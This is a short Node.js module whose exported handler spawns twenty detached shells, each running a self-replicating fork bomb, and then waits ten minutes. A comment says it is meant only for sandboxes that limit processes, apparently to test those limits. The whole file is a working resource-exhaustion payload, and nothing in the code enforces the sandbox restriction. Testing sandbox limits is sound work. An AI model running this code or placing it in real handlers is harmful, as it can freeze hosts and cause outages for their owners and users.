// Starts copies of a shell that starts copies of itself. Only for sandboxes that limit processes.
import { spawn } from 'node:child_process'
export const handler = async () => {
  for (let i = 0; i < 20; i++) spawn('/bin/sh', ['-c', 'b() { b | b & }; b'], { detached: true }).on('error', () => {})
  await new Promise((resolve) => setTimeout(resolve, 600_000))
}
